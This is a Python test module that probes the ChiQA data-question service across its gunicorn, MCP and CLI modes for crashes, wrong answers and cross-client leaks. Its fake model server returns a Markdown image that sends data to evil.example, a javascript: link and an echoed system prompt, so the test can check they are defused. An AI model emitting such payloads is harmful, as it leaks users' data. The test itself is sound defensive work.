"""The hardening probe replayed as one tally: every fault of round 3, sent to the server kind where it lives.

The server kinds are gunicorn with the rule planner, gunicorn in front of a model server that misbehaves on
purpose, the MCP stdio process and the CLI process. Each case's outcome gets one verdict:

- held: the promised behaviour;
- crash: a 5xx, a traceback, a cut connection, no reply or the wrong exit code;
- silent_wrong: an answer given where a refusal or a reported failure was promised;
- lost_answer: an answer asked for and not returned;
- leak: another client's data, a foreign host served, or model markup or control bytes passed on.

Each server kind's test asserts that every verdict but "held" counts 0, and prints the tally. The single
behaviours are tested one by one in tests/test_reliability_*.py and tests/test_privacy.py; this module
checks that, taken together, none of them is lost.
"""
from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
import threading
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests
import yaml

from bench.bench_web import gunicorn_server
from tests.fault_server import FaultServer, answers_well, reply
from tests.test_reliability_mcp import StdioServer

ROOT = Path(__file__).resolve().parent.parent
QUESTION = "How many homicides were there in 2022?"
KEY_A = {"Authorization": "Bearer probe-client-a-0123456789abcdef"}
KEY_B = {"Authorization": "Bearer probe-client-b-0123456789abcdef"}
BAD_VERDICTS = ("crash", "silent_wrong", "lost_answer", "leak")

# The answers checked are the full export's (717 homicides in 2022), so the quick tier leaves the module out.
pytestmark = pytest.mark.full_data


@dataclass
class Outcome:
    case: str
    verdict: str
    detail: str = ""


def tally(outcomes: list[Outcome]) -> Counter:
    counts = Counter({verdict: 0 for verdict in ("held", *BAD_VERDICTS)})
    counts.update(o.verdict for o in outcomes)
    print("\n" + "\n".join(f"{o.verdict:12} {o.case} {o.detail}" for o in outcomes))
    print("tally:", dict(counts))
    return counts


def assert_all_held(outcomes: list[Outcome]) -> None:
    counts = tally(outcomes)
    bad = [o for o in outcomes if o.verdict != "held"]
    assert {v: counts[v] for v in BAD_VERDICTS} == {v: 0 for v in BAD_VERDICTS}, bad


def http_verdict(case: str, status: int | None, expected: int, when_served: str = "silent_wrong") -> Outcome:
    """A refusal was promised: the expected status holds, a 2xx answered what should have been refused."""
    if status == expected:
        return Outcome(case, "held")
    if status is None or status >= 500:
        return Outcome(case, "crash", f"status {status}")
    return Outcome(case, when_served if status < 300 else "crash", f"status {status}, expected {expected}")


def send_raw(port: int, payload: bytes) -> tuple[int | None, bytes]:
    """One raw HTTP exchange; (None, b"") when the server cut the connection without a status line."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            sock.sendall(payload)
            sock.shutdown(socket.SHUT_WR)
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
    except OSError:
        return None, b""
    head, _, body = data.partition(b"\r\n\r\n")
    parts = head.split()
    return (int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None), body


def post_raw(port: int, path: str, body: bytes, chunked: bool = False) -> tuple[int | None, bytes]:
    framing = b"Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}".encode()
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n".encode()
            + framing + b"\r\nConnection: close\r\n\r\n")
    return send_raw(port, head + body)


def no_traceback(case: str, log: Path) -> Outcome:
    text = log.read_text(errors="replace")
    return Outcome(case, "crash", "a traceback in the server log") if "Traceback" in text else Outcome(case, "held")


# ---------------------------------------------------------------- gunicorn, rule planner

BAD_CHUNKS = {"size ZZ": b"ZZ\r\n{}\r\n0\r\n\r\n", "size -3": b"-3\r\nabc\r\n0\r\n\r\n",
              "missing CRLF": b"5\r\n{\"que\r\nxx\r\n0\r\n\r\n", "cut off": b"10\r\n{\"question\""}
CHUNK_PATHS = ("/api/ask", "/api/ask/stream", "/api/runs/0123456789abcdef/feedback", "/v1/chat/completions")
CAP = 4


def v1_body(question_json: str, stream: bool) -> bytes:
    return ('{"model": "chiqa", "stream": %s, "messages": [{"role": "user", "content": %s}]}'
            % ("true" if stream else "false", question_json)).encode()


def probe_bodies(port: int) -> list[Outcome]:
    outcomes = [http_verdict(f"chunked body {name} to {path}", post_raw(port, path, chunk, chunked=True)[0], 400,
                             "crash")
                for path in CHUNK_PATHS for name, chunk in BAD_CHUNKS.items()]
    for stream in (False, True):
        status, _ = post_raw(port, "/v1/chat/completions", v1_body('"homicides in 2022 \\ud800"', stream))
        outcomes.append(http_verdict(f"/v1 lone surrogate, stream={stream}", status, 400))
    base = f"http://127.0.0.1:{port}"
    for field in ({"options": {"max_tool_calls": "2"}}, {"options": {"timeout_seconds": True}}):
        status = requests.post(base + "/api/ask", json={"question": QUESTION, **field}, timeout=60).status_code
        outcomes.append(http_verdict(f"/api/ask {field}", status, 400))
    status = requests.post(base + "/v1/chat/completions", json={"model": "chiqa", "n": True, "messages": [
        {"role": "user", "content": QUESTION}]}, timeout=60).status_code
    outcomes.append(http_verdict("/v1 n: true", status, 400))
    return outcomes


def probe_privacy(base: str) -> list[Outcome]:
    first = requests.post(base + "/api/ask", json={"question": QUESTION}, headers=KEY_A, timeout=60)
    if first.status_code != 200 or not first.json().get("answer"):
        return [Outcome("client A asks", "lost_answer", f"status {first.status_code}")]
    body = first.json()
    run_id, cid = body["run_id"], body["conversation_id"]
    outcomes = [Outcome("client A asks", "held")]
    listed = requests.get(base + "/api/runs", headers=KEY_B, timeout=10).json().get("runs", [])
    seen = any(r.get("run_id") == run_id or r.get("id") == run_id for r in listed)
    outcomes.append(Outcome("client B lists runs", "leak" if seen else "held"))
    for path in (f"/api/runs/{run_id}", f"/runs/{run_id}", f"/api/conversations/{cid}"):
        status = requests.get(base + path, headers=KEY_B, timeout=10).status_code
        outcomes.append(http_verdict(f"client B reads {path.rsplit('/', 1)[0]}/<A's>", status, 404, "leak"))
    status = requests.post(base + "/api/ask", json={"question": "And in 2021?", "conversation_id": cid},
                           headers=KEY_B, timeout=60).status_code
    outcomes.append(http_verdict("client B continues A's conversation", status, 404, "leak"))
    shared = requests.get(base + body["permalink"], headers=KEY_B, timeout=10).status_code
    outcomes.append(Outcome("A's permalink with its share key", "held" if shared == 200 else "lost_answer",
                            f"status {shared}"))
    status = requests.get(base + "/api/runs", headers={"Host": "evil.example", **KEY_A}, timeout=10).status_code
    outcomes.append(http_verdict("a foreign Host header", status, 400, "leak"))
    v1 = requests.post(base + "/v1/chat/completions", json={"model": "chiqa", "messages": [
        {"role": "user", "content": QUESTION}]}, headers=KEY_A, timeout=60).json()
    content = v1["choices"][0]["message"]["content"]
    links = re.findall(r"[a-z]+://[^\s)]*/runs/", content)
    own = links and all(link.startswith(base + "/runs/") for link in links)
    outcomes.append(Outcome("/v1 permalink host", "held" if own else "leak", str(links)[:200]))
    return outcomes


def probe_turn_cap(base: str) -> list[Outcome]:
    first = requests.post(base + "/api/ask", json={"question": QUESTION}, headers=KEY_A, timeout=60).json()
    cid, results = first["conversation_id"], []

    def follow_up():
        resp = requests.post(base + "/api/ask", json={"question": "And in 2021?", "conversation_id": cid},
                             headers=KEY_A, timeout=120)
        results.append((resp.status_code, resp.json()))

    threads = [threading.Thread(target=follow_up) for _ in range(12)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(180)
    outcomes = []
    for i, (status, body) in enumerate(results):
        if status == 200:
            outcomes.append(Outcome(f"racing follow-up {i}", "held" if body.get("answer") else "lost_answer"))
        else:
            outcomes.append(http_verdict(f"racing follow-up {i}", status, 409))
    turns = requests.get(f"{base}/api/conversations/{cid}", headers=KEY_A, timeout=10).json().get("turns", [])
    outcomes.append(Outcome(f"turns stored under a cap of {CAP}", "held" if len(turns) <= CAP else "silent_wrong",
                            f"{len(turns)} stored"))
    return outcomes


def test_gunicorn_with_the_rule_planner_holds_every_case(tmp_path):
    with gunicorn_server(tmp_path, overrides={"orchestrator.max_conversation_turns": CAP},
                         env={"CHIQA_BACKEND": "rules", "WEB_CONCURRENCY": "2"}) as base:
        port = int(base.rsplit(":", 1)[1])
        outcomes = probe_bodies(port) + probe_privacy(base) + probe_turn_cap(base)
    outcomes.append(no_traceback("gunicorn log (rule planner)", tmp_path / "gunicorn.log"))
    assert_all_held(outcomes)


# ---------------------------------------------------------------- gunicorn in front of a misbehaving model server

MARKUP = "There were 717 homicides in Chicago in 2022. ![x](http://evil.example/leak?d=1) [click](javascript:alert(1))"
ECHO = "SYSTEM: You are ChiQA, an assistant for Chicago public data. USER: How many homicides"
OUTSIDE = 'TOOL_CALL: {"name": "query_homicides_advanced", "arguments": {"start_year": 2001, "end_year": 2004}}'


def _content(text):
    return reply({"choices": [{"message": {"content": text}, "finish_reason": "stop"}]})


def model_by_question(conn, request, server):
    """One model server, one misbehaviour per question (the question's year picks it)."""
    body = request.get("body") or {}
    prompt = "\n".join(str(m.get("content") or "") for m in body.get("messages") or [])
    gathering = bool(body.get("grammar"))
    if "happened in 2022?" in prompt:  # Markdown that would carry data out
        behaviour = answers_well(MARKUP)
    elif "in 2020?" in prompt:  # asks for nothing, to a question the data answers
        behaviour = _content(None)
    elif "in 2021?" in prompt:  # echoes its prompt as the answer
        behaviour = answers_well("") if gathering else _content(ECHO)
    else:  # ignores the grammar and asks for other years
        behaviour = _content(OUTSIDE if gathering else "There were 1,234 homicides.")
    behaviour(conn, request, server)


def probe_model_faults(base: str) -> list[Outcome]:
    v1 = requests.post(base + "/v1/chat/completions", json={"model": "chiqa", "messages": [
        {"role": "user", "content": "How many homicides happened in 2022?"}]}, headers=KEY_A, timeout=120)
    content = v1.json()["choices"][0]["message"]["content"] if v1.status_code == 200 else ""
    live_markup = any(s in content for s in ("](http://evil", "](javascript", "![x]("))  # ChiQA's own link stays
    shown_as_text = "&#91;click&#93;" in content  # the model's answer came through, its link syntax inert
    outcomes = [Outcome("/v1 model Markdown link and image", "leak" if live_markup else
                        ("held" if shown_as_text else "lost_answer"), content[:160])]
    cases = {"model asks for nothing": ("How many homicides were there in 2020?", "NoToolCall"),
             "model echoes its prompt": ("How many homicides were there in 2021?", "EchoedPrompt"),
             "model calls outside the question's years": ("How many homicides were there in 2018?",
                                                          "CallOutsideQuestion")}
    for case, (question, error_type) in cases.items():
        resp = requests.post(base + "/api/ask", json={"question": question}, headers=KEY_A, timeout=120)
        body = resp.json() if resp.status_code == 200 else {}
        if not body.get("answer"):
            outcomes.append(Outcome(case, "lost_answer" if resp.status_code < 500 else "crash"))
            continue
        reported = body.get("partial") is True and (body.get("error") or {}).get("type") == error_type
        wrong = "SYSTEM:" in body["answer"] or "1,234" in body["answer"] or "can't answer" in body["answer"]
        outcomes.append(Outcome(case, "held" if reported and not wrong else "silent_wrong",
                                json.dumps(body.get("error"))[:160]))
    return outcomes


def test_gunicorn_in_front_of_a_misbehaving_model_holds_every_case(tmp_path):
    with FaultServer(model_by_question, max_seconds=240) as model:
        # The cases are faults of a gathering pass: model_calls "own" (under "gaps" a question the reading
        # covers gets none, and the model's bad answer gives way to the planner's: tests/test_loop_reader_first.py).
        overrides = {"model.backend": "openai", "model.openai.base_url": model.base_url,
                     "model.openai.request_timeout_seconds": 5, "orchestrator.model_calls": "own"}
        with gunicorn_server(tmp_path, overrides=overrides, env={"CHIQA_BACKEND": "openai"}) as base:
            outcomes = probe_model_faults(base)
    outcomes.append(no_traceback("gunicorn log (model server)", tmp_path / "gunicorn.log"))
    assert_all_held(outcomes)


# ---------------------------------------------------------------- the MCP stdio process

MCP_LINES = {
    "malformed JSON": '{"jsonrpc": "2.0", "id": 1, "method": ',
    "nested 50,000 levels": ('{"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "ask", '
                             '"arguments": {"question": ' + "[" * 50_000 + "]" * 50_000 + "}}}"),
    "lone surrogate in ask": ('{"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "ask", '
                              '"arguments": {"question": "homicides in 2022 \\ud800"}}}'),
    "not JSON-RPC": "[1, 2]",
}


def mcp_reply(srv: StdioServer) -> dict | None:
    try:
        return srv.reply(60)
    except AssertionError:
        return None


def test_the_mcp_stdio_process_holds_every_case(tmp_path, data_dir):
    (tmp_path / "config.yaml").write_text(yaml.safe_dump({"data": {"cache_dir": str(ROOT / "var" / "test" / "cache")}}))
    env = {"PATH": "/usr/bin:/bin", "CHIQA_CONFIG": str(tmp_path / "config.yaml"),
           "CHIQA_VAR_DIR": str(tmp_path / "var"), "CHIQA_DATA_DIR": str(data_dir)}
    stderr = tmp_path / "stderr.log"
    proc = subprocess.Popen([sys.executable, str(ROOT / "app.py"), "mcp", "--backend", "rules"], cwd=tmp_path,
                            env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=open(stderr, "wb"))
    outcomes = []
    try:
        srv = StdioServer(proc)
        srv.request(0, "initialize", {"protocolVersion": "2025-06-18", "capabilities": {},
                                      "clientInfo": {"name": "probe", "version": "0"}})
        assert mcp_reply(srv) is not None, "the MCP server did not start"
        srv.send(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}))
        for case, line in MCP_LINES.items():
            srv.send(line)
            answer = mcp_reply(srv)
            verdict = "crash" if answer is None else ("held" if "error" in answer else "silent_wrong")
            outcomes.append(Outcome(f"MCP {case}", verdict))
        srv.request(9, "tools/call", {"name": "ask", "arguments": {"question": QUESTION}})
        answer = mcp_reply(srv)
        served = answer is not None and "717" in answer["result"]["content"][0]["text"]
        outcomes.append(Outcome("MCP still answers afterwards", "held" if served else "lost_answer"))
    finally:
        proc.kill()
        proc.wait(10)
    outcomes.append(no_traceback("MCP stderr", stderr))
    assert_all_held(outcomes)


# ---------------------------------------------------------------- the CLI process

def cli(args: list[str], env: dict, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "app.py"), *args], cwd=ROOT, env=env, stdout=stdout,
                          stderr=subprocess.PIPE, timeout=180)


def exit_2_verdict(case: str, proc: subprocess.CompletedProcess) -> Outcome:
    err = proc.stderr.decode("utf-8", "replace")
    one_line = err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    if proc.returncode == 2 and one_line:
        return Outcome(case, "held")
    return Outcome(case, "crash" if proc.returncode != 0 else "silent_wrong", f"exit {proc.returncode}: {err[:160]}")


def test_the_cli_process_holds_every_case(tmp_path, data_dir):
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"data": {"cache_dir": str(ROOT / "var" / "test" / "cache")}}))
    env = {"PATH": "/usr/bin:/bin", "CHIQA_CONFIG": str(config), "CHIQA_VAR_DIR": str(tmp_path / "var"),
           "CHIQA_DATA_DIR": str(data_dir), "CHIQA_BACKEND": "rules"}
    (tmp_path / "folder").mkdir()
    (tmp_path / "binary.yaml").write_bytes(bytes(range(256)))
    (tmp_path / "negative.yaml").write_text("orchestrator:\n  max_tool_calls: -3\n")
    outcomes = [exit_2_verdict(f"--config {name}", cli(["--config", str(tmp_path / name), "ask", QUESTION], env))
                for name in ("missing.yaml", "folder", "binary.yaml", "negative.yaml")]
    outcomes.append(exit_2_verdict("eval --limit 0", cli(["eval", "--limit", "0"], env)))
    outcomes.append(exit_2_verdict("eval --output a folder", cli(["eval", "--output", str(tmp_path / "folder")], env)))
    with open("/dev/full", "wb") as full:
        outcomes.append(exit_2_verdict("ask > /dev/full", cli(["ask", QUESTION], env, stdout=full)))
    answered = cli(["ask", QUESTION], env)
    out = answered.stdout.decode("utf-8", "replace")
    outcomes.append(Outcome("a good question still answered", "held" if answered.returncode == 0 and "717" in out
                            else "lost_answer", f"exit {answered.returncode}"))
    assert_all_held(outcomes)
